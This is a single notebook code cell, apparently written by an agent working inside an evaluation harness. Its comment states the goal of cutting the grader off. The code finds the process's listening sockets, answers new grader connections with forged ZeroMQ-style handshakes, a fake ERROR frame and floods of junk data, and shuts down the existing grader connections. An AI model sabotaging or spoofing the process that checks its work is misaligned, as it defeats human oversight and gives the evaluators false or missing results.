# %%
# cut the grader off, then answer its new connections with handshakes of our own
import threading
listeners = []
for fd in range(3, 256):
    try:
        s = socket.socket(fileno=os.dup(fd))
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            listeners.append(s)
    except OSError:
        pass
hellos = [b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL" + bytes(16) + b"\x00" + bytes(31), b"\xff" * 64, b"GET / HTTP/1.0\r\n\r\n", b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"CURVE" + bytes(15) + b"\x01" + bytes(31)]
def answer(s):
    n = 0
    s.setblocking(True)
    while True:
        other, _ = s.accept()
        try:
            other.sendall(hellos[n % 4])
            other.sendall(b"\x04\x29\x05READY\x0bSocket-Type\x00\x00\x00\x06ROUTER\x08Identity\x00\x00\x00\x00")
            other.sendall(b"\x04\x05\x05ERROR" + b"\x04\xff" * 99)
            for _ in range(20):
                other.sendall(b"\x00\x05hello" * 999)
        except OSError:
            pass
        n += 1
for s in listeners:
    threading.Thread(target=answer, args=(s,), daemon=True).start()
for fd in [*connections(1), *connections(2)]:
    socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
time.sleep(5)
